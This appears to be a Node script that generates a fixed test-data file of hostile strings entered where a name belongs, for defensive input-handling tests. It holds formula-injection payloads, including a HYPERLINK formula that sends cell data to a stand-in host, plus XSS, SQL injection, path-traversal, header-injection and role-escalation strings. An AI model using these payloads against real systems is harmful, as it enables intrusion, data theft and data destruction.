/**
 * Writes `hostile-names.json`: three hundred things that somebody may type or paste where a name belongs, and that a
 * page, a file or a program may trip over. Thirty kinds written by hand, ten of each by a fixed seed, so that the file
 * is the same wherever it is made: `node tests/data/make-hostile-names.mjs > tests/data/hostile-names.json`.
 *
 * Each is kept as the JSON text of its string, because lone surrogates can be said in JSON and are no text in Rust.
 * `times` repeats it.
 */
const EACH = 10;

/** What the seed gives, from 0 up to `below`. */
function dice() {
  let state = 379n;
  return (below) => {
    state = (state * 6364136223846793005n + 1442695040888963407n) & 0xffffffffffffffffn;
    return Number((state >> 33n) % BigInt(below));
  };
}

const run = 'window.__harm=(window.__harm||0)+1';
const KINDS = {
  formula: ['=1+1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://x.invalid/?"&A1,"xem")', '=IMPORTXML("http://x.invalid")', '==1'],
  'formula by another sign': ['+84905123456+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+9)*cmd|\' /C calc\'!A0', '|cmd', '%0A=1+1'],
  'formula behind blanks': ['\t=1+1', '\r=1+1', '\n=1+1', '  =1+1', '\u00a0=1+1', '\u200b=1+1', '\ufeff=1+1'],
  'formula in wide letters': ['＝1+1', '＋1', '－1', '＠SUM(1)'],
  'formula behind a separator': ['a;=1+1', 'a,=1+1', 'a\t=1+1', 'a\r\n=1+1', 'a"\r\n=1+1,"', 'a";=1+1;"'],
  script: [`<script>${run}</script>`, `</script><script>${run}</script>`, `<SCRIPT SRC=//x.invalid></SCRIPT>`, `<script>alert(1)</script>`],
  image: [`<img src=x onerror="${run}">`, `<svg onload="${run}">`, `<svg/onload=${run}>`, `"><img src=x onerror=alert(1)>`, `<iframe srcdoc="<script>parent.__harm=1</script>">`],
  attribute: [`" onmouseover="${run}`, `' autofocus onfocus='${run}`, '`${alert(1)}`', `javascript:${run}`, `data:text/html,<script>${run}</script>`],
  markup: ['<b>đậm</b>', '<h1>To</h1>', '<style>*{display:none}</style>', '<base href="http://x.invalid">', '<form action="http://x.invalid"><input name=p>', '<!-- ghi chú'],
  template: ['{{CT-e.tu}}', '{{ PH-d.mau }}', '{{', '}}', '{{{{CT-e.tu}}}}', '{@html x}', '${x}', '{{ngay}}'],
  sql: ["'; DROP TABLE household_view; --", "' OR '1'='1", '" OR ""="', "Robert'); DELETE FROM change;--", '%_%', '\\'],
  search: ['"', '*', 'a*', 'NEAR(a b)', 'a AND', '-a', 'cột:giá trị', '^a'],
  'right to left': ['\u202eượn gnúrt', 'Lê \u202eaoH\u202c Hoà', '\u200fשלום', '\u2067ابن\u2069', 'فاطمة', '\u2066\u202e\u2067a'],
  'unseen': ['Hoà\u200b', '\u200bHoà', 'H\u200co\u200dà', '\u2060Hoà\ufeff', '\u00adHoà', '\u180eHoà', '\u2063Hoà', '\u3164', '\u115f\u1160'],
  'nothing to see': ['\u200b', '\u202e', '\u2066\u2069', '\ufeff', '\u061c', '\u00a0', '\u3000', '\u2028'],
  nul: ['Hoà\u0000', '\u0000', 'Ho\u0000à', '\u0000=1+1'],
  control: ['Hoà\u0007', '\u001b[31mđỏ\u001b[0m', '\u0008\u0008', 'a\u007fb', 'a\u0085b', '\u009b31m', '\u0001\u0002\u0003', 'a\u000bb\u000cc'],
  'line ends': ['Hoà\nLan', 'Hoà\r\nSet-Cookie: a=b', 'Hoà\u2028Lan', 'Hoà\u2029Lan', '\r\r\r', 'Hoà\rLan'],
  emoji: ['😀', '👨‍👩‍👧‍👦', '🇻🇳', '👍🏽', '❤️', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '🧑‍🦽‍➡️'],
  'combining': ['Hoà' + '\u0301'.repeat(40), 'Z' + '\u0351\u0363\u0334\u0348'.repeat(12), '\u0301Hoà', '\u20dd', 'a' + '\u0e47'.repeat(30)],
  'lone surrogate': ['\ud800', 'Hoà\udc00', '\ud83d', '\udc00\ud800'],
  noncharacter: ['\ufffe', 'Hoà\uffff', '\ufdd0', '\ufffd', '\ufff9a\ufffab\ufffb', '\u{1fffe}', '\u{10ffff}'],
  xml: [']]>', '<![CDATA[a]]>', '&lt;', '&amp;amp;', '&#0;', '&#x1;', '<!ENTITY a "b">', '<?xml version="1.0"?>', '&xxe;', '_x000D_', '_x0000_'],
  path: ['../../etc/passwd', '..\\..\\windows', '/dev/null', 'C:\\con', 'aux.docx', 'a/b:c*d?e', '.', '..', '%2e%2e%2f', 'file:///etc/passwd'],
  'one long word': ['W'.repeat(60), 'ữ'.repeat(90), 'nghiêng'.repeat(14), '—'.repeat(80), '0'.repeat(70)],
  decomposed: ['Nguyễn Thị Hoà'.normalize('NFD'), 'Đặng Hữu Phước'.normalize('NFD'), 'Ðặng Hoà', 'Lê Thị Hòa', 'NGUYỄN THỊ Ở'.normalize('NFD')],
  words: ['null', 'undefined', 'NaN', 'true', '[object Object]', '__proto__', 'constructor', 'None', '0', '-0', '1e309', 'Infinity'],
  json: ['{"a":1}', '[]', '"', '\\"', '\\u0000', '","role":"administrator', '\\ud800'],
  header: ['Hoà%0d%0aSet-Cookie:a=b', 'https://x.invalid/', 'mailto:a@x.invalid', 'tel:+84905123456', '//x.invalid', '%00', '%F0%9F'],
  'sixty-four kilobytes': ['a', 'ữ', '<b>', '=1+1;', '😀', 'Hoà '],
};
/** What stands around them: alone they are rare, within a name they are a paste. */
const AROUND = [(x) => x, (x) => `Lê ${x}`, (x) => `${x} Hoà`, (x) => `Trần ${x} Bảy`, (x) => `${x}${x}`, (x) => x.toUpperCase(), (x) => `“${x}”`, (x) => ` ${x} `];

const roll = dice();
const lines = [];
for (const [kind, bases] of Object.entries(KINDS)) {
  const seen = new Set();
  for (let at = 0; seen.size < EACH; at += 1) {
    const base = bases[at % bases.length];
    const text = at < bases.length && at < EACH ? base : AROUND[roll(AROUND.length)](base) + (at > 60 ? ` ${at}` : '');
    if (seen.has(text)) continue;
    seen.add(text);
    // Well-formed text is written as it is but for what an editor would hide; surrogates that are alone as escapes.
    const json = JSON.stringify(text).replace(/[^\x20-\x7e]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
    const times = kind === 'sixty-four kilobytes' ? Math.ceil(65_536 / Buffer.byteLength(text)) : 1;
    lines.push(JSON.stringify({ kind, json, times }));
  }
}
process.stdout.write(`[\n${lines.join(',\n')}\n]\n`);
